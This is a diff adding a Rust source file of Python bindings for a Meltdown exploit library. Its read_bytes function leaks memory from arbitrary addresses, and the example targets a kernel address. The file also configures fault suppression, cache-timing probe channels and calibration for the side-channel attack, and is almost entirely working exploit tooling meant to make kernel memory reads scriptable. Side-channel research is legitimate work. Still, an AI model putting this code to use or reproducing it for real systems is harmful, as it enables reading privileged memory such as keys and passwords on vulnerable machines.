@@ -0,0 +1,232 @@
+//! Python bindings for the reader, so analysis scripts can leak memory and
+//! plot the results with numpy and matplotlib without going through the
+//! command line. Build with `cargo build --release` and copy
+//! `target/release/libmeltdown.so` to `meltdown.so` next to the script.
+//!
+//! ```python
+//! import meltdown
+//! values, confidence = meltdown.read_bytes(0xffffffff81000000, 64,
+//!                                          {"channel": "line", "retries": 8})
+//! ```
+//!
+//! Every function takes an optional config dict with the reader options of
+//! the command line: `suppress`, `channel`, `dual_probe`, `hugepages`,
+//! `evict`, `pipeline`, `calibration`, `min_confidence` and `retries`. The
+//! reader a config builds is kept, per thread, until a call passes a
+//! different one, so only the first read pays for calibrating.
+
+#![feature(proc_macro, specialization)]
+
+extern crate meltdown_rust;
+extern crate pyo3;
+
+use meltdown_rust::{Calibration, Channel, LatencyStats, MeltdownConfig, MeltdownReader,
+                    Suppression};
+use pyo3::prelude::*;
+use pyo3::py::modinit;
+
+use std::cell::RefCell;
+use std::io;
+
+// how a reader is set up, from a config dict
+#[derive(Clone, Debug, Default, PartialEq)]
+struct Config {
+    // None picks a strategy based on the detected CPU features
+    suppression: Option<Suppression>,
+    // None keeps the reader's default channel
+    channel: Option<Channel>,
+    dual_probe: bool,
+    hugepages: bool,
+    evict: bool,
+    pipeline: bool,
+    // None measures a threshold when the reader is built
+    calibration: Option<String>,
+    min_confidence: f64,
+    // None keeps the reader's default
+    retries: Option<usize>,
+}
+
+thread_local! {
+    // the reader the last call on this thread built, and the config it was
+    // built for
+    static READER: RefCell<Option<(Config, MeltdownReader)>> = RefCell::new(None);
+}
+
+fn value_error(message: String) -> PyErr {
+    exc::ValueError::new(message)
+}
+
+fn os_error(e: io::Error) -> PyErr {
+    exc::OSError::new(e.to_string())
+}
+
+fn parse_config(config: Option<&PyDict>) -> PyResult<Config> {
+    let mut result = Config::default();
+    let config = match config {
+        Some(config) => config,
+        None => return Ok(result),
+    };
+    for key in config.keys().iter() {
+        let key: String = key.extract()?;
+        let value = config.get_item(&key[..]).unwrap();
+        match &key[..] {
+            "suppress" => {
+                let name: String = value.extract()?;
+                result.suppression = match &name[..] {
+                    "auto" => None,
+                    _ => Some(Suppression::from_name(&name).ok_or_else(|| {
+                        value_error(format!("unknown suppression strategy `{}`", name))
+                    })?),
+                }
+            }
+            "channel" => {
+                let name: String = value.extract()?;
+                result.channel = Some(Channel::from_name(&name)
+                    .ok_or_else(|| value_error(format!("unknown channel `{}`", name)))?)
+            }
+            "dual_probe" => result.dual_probe = value.extract()?,
+            "hugepages" => result.hugepages = value.extract()?,
+            "evict" => result.evict = value.extract()?,
+            "pipeline" => result.pipeline = value.extract()?,
+            "calibration" => result.calibration = Some(value.extract()?),
+            "min_confidence" => {
+                let min_confidence: f64 = value.extract()?;
+                if min_confidence < 0.0 || min_confidence > 1.0 {
+                    let message = "min_confidence has to be between 0 and 1".to_owned();
+                    return Err(value_error(message));
+                }
+                result.min_confidence = min_confidence
+            }
+            "retries" => result.retries = Some(value.extract()?),
+            _ => return Err(value_error(format!("unknown config key `{}`", key))),
+        }
+    }
+    Ok(result)
+}
+
+// builds a reader as the command line does for the same options
+fn build_reader(config: &Config) -> io::Result<MeltdownReader> {
+    let suppression = config.suppression.unwrap_or_else(Suppression::detect);
+    let mut reader_config = MeltdownConfig::with_suppressor(suppression)
+        .hugepages(config.hugepages)
+        .dual_probe(config.dual_probe)
+        .evict(config.evict)
+        .pipeline(config.pipeline)
+        .min_confidence(config.min_confidence);
+    if let Some(channel) = config.channel {
+        reader_config = reader_config.channel(channel);
+    }
+    if let Some(ref path) = config.calibration {
+        reader_config = reader_config.calibration(Calibration::load(path)?);
+    }
+    if let Some(retries) = config.retries {
+        reader_config = reader_config.max_retries(retries);
+    }
+    reader_config.build()
+}
+
+// runs f on this thread's reader for config, building it first if the last
+// one was built for another config
+fn with_reader<T, F>(config: Option<&PyDict>, f: F) -> PyResult<T>
+where
+    F: FnOnce(&mut MeltdownReader) -> T,
+{
+    let config = parse_config(config)?;
+    READER.with(|slot| {
+        let mut slot = slot.borrow_mut();
+        let stale = match *slot {
+            Some((ref built_for, _)) => *built_for != config,
+            None => true,
+        };
+        if stale {
+            // the old probe buffer is freed before the new one is allocated
+            *slot = None;
+            let reader = build_reader(&config).map_err(os_error)?;
+            *slot = Some((config, reader));
+        }
+        Ok(f(&mut slot.as_mut().unwrap().1))
+    })
+}
+
+fn stats_dict(py: Python, stats: &LatencyStats) -> PyResult<PyObject> {
+    let dict = PyDict::new(py);
+    dict.set_item("min", stats.min)?;
+    dict.set_item("p10", stats.p10)?;
+    dict.set_item("median", stats.median)?;
+    dict.set_item("p90", stats.p90)?;
+    dict.set_item("max", stats.max)?;
+    dict.set_item("mean", stats.mean)?;
+    Ok(dict.to_object(py))
+}
+
+fn calibration_dict(py: Python, calibration: &Calibration) -> PyResult<PyObject> {
+    let dict = PyDict::new(py);
+    dict.set_item("hit", stats_dict(py, &calibration.hit)?)?;
+    dict.set_item("miss", stats_dict(py, &calibration.miss)?)?;
+    dict.set_item("threshold", calibration.threshold)?;
+    Ok(dict.to_object(py))
+}
+
+#[modinit(meltdown)]
+fn init(_py: Python, m: &PyModule) -> PyResult<()> {
+    /// read_bytes(addr, length, config=None)
+    ///
+    /// Leaks length bytes from addr. Returns a list of the bytes' values,
+    /// with None for those that didn't leak, and a list of the fraction of
+    /// probe rounds that agreed on each.
+    #[pyfn(m, "read_bytes")]
+    fn read_bytes(
+        addr: usize,
+        length: usize,
+        config: Option<&PyDict>,
+    ) -> PyResult<(Vec<Option<u8>>, Vec<f64>)> {
+        let guesses = with_reader(config, |reader| {
+            reader.guess_range(addr as *const u8, length)
+        })?;
+        Ok((
+            guesses.iter().map(|guess| guess.value).collect(),
+            guesses.iter().map(|guess| guess.confidence()).collect(),
+        ))
+    }
+
+    /// calibrate(samples=10000, config=None)
+    ///
+    /// Measures cache hit and miss latency again and makes the result the
+    /// threshold of the reader for config. Returns the measurement as a dict
+    /// of hit and miss latency statistics and the threshold.
+    #[pyfn(m, "calibrate")]
+    fn calibrate(
+        py: Python,
+        samples: Option<usize>,
+        config: Option<&PyDict>,
+    ) -> PyResult<PyObject> {
+        let calibration = with_reader(config, |reader| {
+            let calibration = reader.calibrate(samples.unwrap_or(10_000));
+            reader.set_calibration(calibration);
+            calibration
+        })?;
+        calibration_dict(py, &calibration)
+    }
+
+    /// calibration(config=None)
+    ///
+    /// The calibration the reader for config is using, as calibrate returns
+    /// it.
+    #[pyfn(m, "calibration")]
+    fn calibration(py: Python, config: Option<&PyDict>) -> PyResult<PyObject> {
+        let calibration = with_reader(config, |reader| *reader.calibration())?;
+        calibration_dict(py, &calibration)
+    }
+
+    /// save_calibration(path, config=None)
+    ///
+    /// Saves the calibration the reader for config is using, for the
+    /// `calibration` key of later configs or `--calibration`.
+    #[pyfn(m, "save_calibration")]
+    fn save_calibration(path: String, config: Option<&PyDict>) -> PyResult<()> {
+        let calibration = with_reader(config, |reader| *reader.calibration())?;
+        calibration.save(&path).map_err(os_error)
+    }
+
+    Ok(())
+}